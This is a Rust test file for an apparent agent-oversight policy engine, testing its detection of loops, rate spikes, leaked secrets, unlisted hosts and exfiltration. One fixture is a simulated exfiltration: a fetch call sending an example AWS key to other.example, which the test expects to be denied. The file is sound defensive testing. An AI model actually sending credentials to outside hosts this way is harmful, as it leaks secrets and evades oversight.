use std::sync::Arc;

use proctor_core::action::Action;
use proctor_core::digest::Digest;
use proctor_core::id::{ApprovalId, RecordId, SessionId};
use proctor_core::json::Json;
use proctor_core::session::Caller;
use proctor_core::time::Timestamp;
use proptest::prelude::*;

use super::*;
use crate::body::{Derivation, rederive};
use crate::judge::{Judgement, Request, judge as judge_action};
use crate::policy::{Policy, Source};
use crate::prepare::prepare;
use crate::question::{Account, Unit};
use crate::state::State;

/// The beginning of a minute, and of windows of five minutes.
const START: i64 = 1_768_086_000_000_000;
const SECOND: i64 = 1_000_000;
const MINUTE: i64 = 60 * SECOND;
const KEY: &str = "AKIAIOSFODNN7EXAMPLE";

/// A policy with its past: every decision is recorded, and derived again from its record.
struct Gate {
    policy: Arc<Policy>,
    state: State,
    sequence: u64,
    now: i64,
}

impl Gate {
    fn new(documents: &[&str]) -> Gate {
        let source = |(number, text): (usize, &&str)| Source::document(&format!("p{number}.yaml"), text);
        let policy = Policy::compile(documents.iter().enumerate().map(source).collect()).unwrap();
        Gate { policy: Arc::new(policy), state: State::new(), sequence: 0, now: 0 }
    }

    fn act(&mut self, action: &str) -> Judgement {
        let action = Action::from_json(&Json::parse(action.as_bytes()).unwrap()).unwrap();
        let caller = Caller { principal: "alice".to_owned(), ..Caller::default() };
        let session = SessionId::from_bytes([1; 16]);
        let digest = Digest::of(format!("{action:?}").as_bytes());
        let now = Timestamp::from_micros(START + self.now);
        let request = Request {
            action: &action,
            prepared: prepare(&self.policy, &action, None),
            caller: &caller,
            agent: "",
            session,
            digest,
            now,
            record: RecordId::from_bytes([2; 16]),
            fresh_approval: ApprovalId::from_bytes([3; 16]),
        };
        let judgement = judge_action(&self.policy, request, &self.state.view(&caller, session, digest, now));
        let policy = Arc::clone(&self.policy);
        let mut policies = |_| Some(Arc::clone(&policy));
        let derived = rederive(&judgement.envelope, Some(&judgement.body), &mut policies, Some(&self.state));
        assert_eq!(derived, Derivation::Same);
        self.state.apply(self.sequence, &judgement.envelope);
        self.sequence += 1;
        judgement
    }

    /// The same action several times; returns effect and alarms of each.
    fn repeat(&mut self, times: usize, action: &str) -> Vec<(Effect, Vec<&'static str>)> {
        let judged = (0..times).map(|_| self.act(action));
        judged.map(|judgement| (judgement.decision.effect, judgement.alarms)).collect()
    }
}

fn units(judgement: &Judgement) -> Vec<(String, Option<u32>)> {
    judgement.envelope.amounts.iter().map(|amount| (amount.unit.clone(), amount.limit)).collect()
}

const LIST: &str = r#"{"tool": "ls"}"#;

#[test]
fn without_the_section_nothing_is_watched() {
    let mut gate = Gate::new(&["default: allow\n"]);
    let judgement = gate.act(LIST);
    assert_eq!(units(&judgement), [("calls".to_owned(), None)]);
    let body = String::from_utf8(judgement.body).unwrap();
    assert!(!body.contains("\"repeats\"") && !body.contains("\"pace\""));
}

#[test]
fn what_is_watched_is_on_record_whatever_the_effect() {
    let watched = [("repeat".to_owned(), Some(300)), ("pace".to_owned(), None)];
    let mut gate = Gate::new(&["default: deny\nanomalies: {}\n"]);
    assert_eq!(units(&gate.act(LIST)), watched);
    let mut gate = Gate::new(&["default: allow\nanomalies: {}\n"]);
    assert_eq!(units(&gate.act(LIST))[1..], watched);
    let mut gate = Gate::new(&["default: deny\nanomalies: {loops: off, spikes: off}\n"]);
    assert!(units(&gate.act(LIST)).is_empty());
}

#[test]
fn what_is_watched_costs_nothing() {
    let mut gate = Gate::new(&["default: deny\nanomalies: {}\n"]);
    let judgement = gate.act(LIST);
    let caller = Caller { principal: "alice".to_owned(), ..Caller::default() };
    let now = judgement.envelope.time;
    let view = gate.state.view(&caller, SessionId::from_bytes([1; 16]), Digest::of(b""), now);
    for unit in [Unit::Usd, Unit::Tokens, Unit::Calls] {
        let spent = view.answer(&Question::Spent(Account::Agent, unit, now.plus_micros(-MINUTE)));
        assert_eq!(spent, Some(Answer::Amount(Decimal::ZERO)));
    }
    assert_eq!(view.answer(&Question::Rate("ls".to_owned(), 300)), Some(Answer::Level(0)));
}

#[test]
fn a_loop_raises_an_alarm_at_each_multiple() {
    let mut gate = Gate::new(&["default: allow\nanomalies: {loops: {count: 3, window: 5m}}\n"]);
    let alarms: Vec<usize> = gate
        .repeat(7, LIST)
        .into_iter()
        .map(|(effect, alarms)| {
            assert_eq!(effect, Effect::Allow);
            alarms.len()
        })
        .collect();
    assert_eq!(alarms, [0, 0, 1, 0, 0, 1, 0]);
    assert!(gate.act(r#"{"tool": "ls", "args": {"path": "x"}}"#).alarms.is_empty());
}

#[test]
fn a_loop_is_denied_also_when_it_was_denied_before_and_over_after_a_while() {
    let mut gate = Gate::new(&["default: allow\nanomalies: {loops: {count: 3, window: 60s, then: deny}}\n"]);
    let effects: Vec<Effect> = gate.repeat(5, LIST).into_iter().map(|(effect, _)| effect).collect();
    assert_eq!(effects, [Effect::Allow, Effect::Allow, Effect::Deny, Effect::Deny, Effect::Deny]);
    let judgement = gate.act(LIST);
    assert_eq!(
        (judgement.decision.rule.as_str(), judgement.alarms.as_slice()),
        ("anomaly.loops", &["loop"][..])
    );
    assert_eq!(judgement.decision.reason, "the same action 6 times in about 60 seconds");
    assert_eq!(judgement.suspend, None);
    gate.now += 2 * MINUTE;
    assert_eq!(gate.act(LIST).decision.effect, Effect::Allow);
}

#[test]
fn a_loop_can_ask_and_suspend() {
    let mut gate = Gate::new(&["default: allow\nanomalies: {loops: {count: 2, then: ask}}\n"]);
    gate.act(LIST);
    let judgement = gate.act(LIST);
    assert_eq!((judgement.decision.effect, judgement.alarms.as_slice()), (Effect::Ask, &["loop"][..]));
    let mut gate = Gate::new(&["default: allow\nanomalies: {loops: {count: 2, then: suspend}}\n"]);
    assert_eq!(gate.act(LIST).suspend, None);
    let judgement = gate.act(LIST);
    assert_eq!(judgement.decision.effect, Effect::Deny);
    let reason = "the same action 2 times in about 300 seconds".to_owned();
    assert_eq!(judgement.suspend, Some(("anomaly", reason)));
}

#[test]
fn a_spike_is_told_once_a_minute() {
    let mut gate =
        Gate::new(&["default: allow\nanomalies: {loops: off, spikes: {sigma: 2.5, at_least: 5}}\n"]);
    // Ten minutes of two actions each, then many.
    for _ in 0..10 {
        assert!(gate.repeat(2, LIST).iter().all(|(_, alarms)| alarms.is_empty()));
        gate.now += MINUTE;
    }
    let alarms: Vec<usize> = gate.repeat(8, LIST).iter().map(|(_, alarms)| alarms.len()).collect();
    assert_eq!(alarms, [0, 0, 0, 0, 1, 0, 0, 0]);
    // The minute of eight is usual now, to a degree: the bound is about 6.8.
    gate.now += MINUTE;
    let alarms: Vec<usize> = gate.repeat(8, LIST).iter().map(|(_, alarms)| alarms.len()).collect();
    assert_eq!(alarms, [0, 0, 0, 0, 0, 0, 1, 0]);
}

#[test]
fn a_spike_needs_ten_minutes_to_compare_with() {
    let mut gate =
        Gate::new(&["default: allow\nanomalies: {loops: off, spikes: {at_least: 3, then: deny}}\n"]);
    gate.act(LIST);
    gate.now += 9 * MINUTE;
    assert!(gate.repeat(9, LIST).iter().all(|(effect, _)| *effect == Effect::Allow));
    gate.now += MINUTE;
    let effects: Vec<Effect> = gate.repeat(11, LIST).into_iter().map(|(effect, _)| effect).collect();
    // Mean 1, deviation 2.68: more than 9.05.
    assert_eq!(effects[8..], [Effect::Allow, Effect::Deny, Effect::Deny]);
}

/// A spike told by floating-point numbers, which are good enough for small counts that are not near the bound.
fn is_plain_spike(count: u64, minutes: &[u64], sigma: f64) -> Option<bool> {
    let n = minutes.len() as f64;
    let mean = minutes.iter().sum::<u64>() as f64 / n;
    let spread = minutes.iter().map(|minute| (*minute as f64 - mean).powi(2)).sum::<f64>() / n;
    let bound = mean + sigma * spread.sqrt();
    ((count as f64 - bound).abs() > 1e-6).then_some(count as f64 > bound)
}

proptest! {
    #[test]
    fn the_bound_is_mean_and_deviations(
        minutes in prop::collection::vec(0u64..50, 10..61),
        count in 1u64..200,
        tenths in 10u32..1000,
    ) {
        let rate = ActionsPerMinute {
            current: 0,
            minutes: minutes.len() as u64,
            sum: minutes.iter().sum(),
            squares: minutes.iter().map(|minute| minute * minute).sum(),
        };
        let watch = SpikeWatch { sigma_tenths: tenths, at_least: 1, then: Response::Alarm };
        if let Some(expected) = is_plain_spike(count, &minutes, f64::from(tenths) / 10.0) {
            prop_assert_eq!(is_spike(count, rate, watch), expected);
        }
    }

    #[test]
    fn no_numbers_make_the_bound_fail(current: u64, minutes: u64, sum: u64, squares: u64, count: u64, tenths: u32) {
        let watch = SpikeWatch { sigma_tenths: tenths, at_least: 1, then: Response::Alarm };
        is_spike(count, ActionsPerMinute { current, minutes, sum, squares }, watch);
    }
}

#[test]
fn the_bound_itself_is_no_spike() {
    // Mean 2, deviation 1: exactly 5 at three deviations.
    let rate = ActionsPerMinute { current: 0, minutes: 10, sum: 20, squares: 50 };
    let watch = SpikeWatch { sigma_tenths: 30, at_least: 1, then: Response::Alarm };
    assert!(!is_spike(5, rate, watch) && is_spike(6, rate, watch));
    assert!(!is_spike(6, rate, SpikeWatch { at_least: 7, ..watch }));
    assert!(!is_spike(6, ActionsPerMinute { minutes: 9, ..rate }, watch));
}

#[test]
fn several_secrets_are_a_leak() {
    let three = format!(r#"{{"tool": "note", "args": {{"a": "{KEY}", "b": "{KEY}", "c": "{KEY}"}}}}"#);
    let two =
        format!(r#"{{"tool": "note", "args": {{"a": "{KEY}", "b": "{KEY}", "c": "ann@example.com"}}}}"#);
    let mut gate = Gate::new(&["default: allow\nanomalies: {}\n"]);
    assert_eq!(gate.act(&three).alarms, ["leak"]);
    assert!(gate.act(&two).alarms.is_empty());
    // Where it is written what happens to secrets, an address is one of them.
    let mut gate = Gate::new(&[
        "default: allow\ndata: {credential_action: redact_only}\nanomalies: {leaks: {then: deny}}\n",
    ]);
    let judgement = gate.act(&two);
    assert_eq!(
        (judgement.decision.rule.as_str(), judgement.decision.effect),
        ("anomaly.leaks", Effect::Deny)
    );
    assert_eq!(judgement.decision.reason, "3 secrets in one action");
}

const FETCH: &str = r#"{"tool": "fetch", "args": {"url": "https://other.example/"}}"#;

#[test]
fn a_host_in_no_allowlist_is_unknown() {
    let unlisted = "default: allow\nanomalies: {unknown_hosts: {then: suspend}}\n";
    assert!(Gate::new(&[unlisted]).act(FETCH).alarms.is_empty());
    let listed = "network: {allowlist: [one.example]}\n";
    let judgement = Gate::new(&[unlisted, listed]).act(FETCH);
    assert_eq!(judgement.alarms, ["unknown_host"]);
    let reason = "host `other.example` is in no network allowlist";
    assert_eq!(judgement.suspend, Some(("anomaly", reason.to_owned())));
    // One list that has it is enough for it to be known; whether it is allowed is another matter.
    let other = "network: {allowlist: ['*.example']}\n";
    let judgement = Gate::new(&[unlisted, listed, other]).act(FETCH);
    assert!(judgement.alarms.is_empty() && judgement.suspend.is_none());
    let off = "default: allow\nnetwork: {allowlist: []}\nanomalies: {unknown_hosts: off}\n";
    assert!(Gate::new(&[off]).act(FETCH).alarms.is_empty());
}

#[test]
fn a_secret_on_its_way_to_a_host_is_denied() {
    let sent =
        format!(r#"{{"tool": "fetch", "args": {{"url": "https://other.example/", "body": "{KEY}"}}}}"#);
    let kept = format!(r#"{{"tool": "note", "args": {{"body": "{KEY}"}}}}"#);
    let mut gate = Gate::new(&["default: allow\nanomalies: {}\n"]);
    let judgement = gate.act(&sent);
    assert_eq!(
        (judgement.decision.effect, judgement.decision.rule.as_str()),
        (Effect::Deny, "anomaly.exfiltration")
    );
    assert_eq!(judgement.alarms, ["exfiltration"]);
    assert!(!judgement.decision.reason.contains(KEY));
    assert!(gate.act(&kept).alarms.is_empty() && gate.act(FETCH).alarms.is_empty());
    let mut gate = Gate::new(&["default: allow\nanomalies: {exfiltration: {then: alarm}}\n"]);
    let judgement = gate.act(&sent);
    assert!(judgement.decision.effect.lets_through() && judgement.alarms == ["exfiltration"]);
    let mut gate = Gate::new(&["default: allow\nanomalies: {exfiltration: off}\n"]);
    assert!(gate.act(&sent).alarms.is_empty());
}

#[test]
fn of_several_documents_the_strictest_numbers_and_responses_count() {
    let one = "default: allow\nanomalies: {loops: {count: 5, window: 10s, then: deny}, spikes: off}\n";
    let other = "default: allow\nanomalies: {loops: {count: 3, window: 20s}, spikes: off}\n";
    let elsewhere = "scope: team:red\ndefault: allow\nanomalies: {loops: {count: 2}}\n";
    let mut gate = Gate::new(&[one, other, elsewhere]);
    let effects: Vec<Effect> = gate.repeat(3, LIST).into_iter().map(|(effect, _)| effect).collect();
    assert_eq!(effects, [Effect::Allow, Effect::Allow, Effect::Deny]);
    let judgement = gate.act(LIST);
    assert_eq!(units(&judgement), [("repeat".to_owned(), Some(20))]);
    let opinion = judgement.opinions.iter().find(|opinion| opinion.effect == Effect::Deny).unwrap();
    assert_eq!(opinion.file, "p0.yaml");
}

#[test]
fn what_cannot_be_judged_is_denied() {
    struct NoPast;
    impl AnswerSource for NoPast {
        fn answer(&self, question: &Question) -> Option<Answer> {
            matches!(question, Question::AgentStatus(_)).then_some(Answer::AgentStatus(None))
        }
    }
    let policy = Policy::compile(vec![Source::document("p", "default: allow\nanomalies: {}\n")]).unwrap();
    let input = Input {
        facts: proctor_facts::Facts::default(),
        findings: Vec::new(),
        caller: Caller::default(),
        agent: String::new(),
        session: SessionId::from_bytes([1; 16]),
        digest: Digest::of(b""),
        now: Timestamp::from_micros(START),
        fresh_approval: ApprovalId::from_bytes([3; 16]),
    };
    let evaluation = super::super::evaluate(&policy, &input, &NoPast);
    assert_eq!(
        (evaluation.decision.effect, evaluation.decision.rule.as_str()),
        (Effect::Deny, "anomaly.loops")
    );
}

#[test]
fn an_additional_finding_is_cut_and_changes_the_answer_only_if_the_policy_says_so_in_writing() {
    const ACTION: &str =
        r#"{"kind":"tool_call","tool":"send","args":{"text":"to ann@example.com --token abc123"}}"#;
    const SECTIONS: &str = "version: \"1\"\ntools: {send: {allow: true}}\n";
    const RULES: &str = "version: \"1\"\ndefault: allow\n";
    const BLOCKS: &str = "data: {credential_action: block}\n";
    const PLAIN: &str = r#"{"kind":"tool_call","tool":"send","args":{"text":"deploy --token abc123"}}"#;
    let body = |judgement: &Judgement| String::from_utf8(judgement.body.clone()).unwrap();
    for document in [SECTIONS, RULES] {
        let judgement = Gate::new(&[document]).act(PLAIN);
        assert_eq!(judgement.decision.effect, Effect::Allow, "{document}");
        assert!(!body(&judgement).contains("abc123"), "{document}");
        let judgement = Gate::new(&[&format!("{document}{BLOCKS}")]).act(PLAIN);
        assert_eq!(judgement.decision.effect, Effect::Deny, "{document}");
    }
    // Addresses: cut and answered under sections only, visible under rules, unless something is written.
    let judgement = Gate::new(&[SECTIONS]).act(ACTION);
    assert_eq!(judgement.decision.effect, Effect::Redact);
    assert!(!body(&judgement).contains("ann@example.com"));
    let judgement = Gate::new(&[RULES]).act(ACTION);
    assert_eq!(judgement.decision.effect, Effect::Allow);
    assert!(body(&judgement).contains("ann@example.com") && !body(&judgement).contains("abc123"));
}
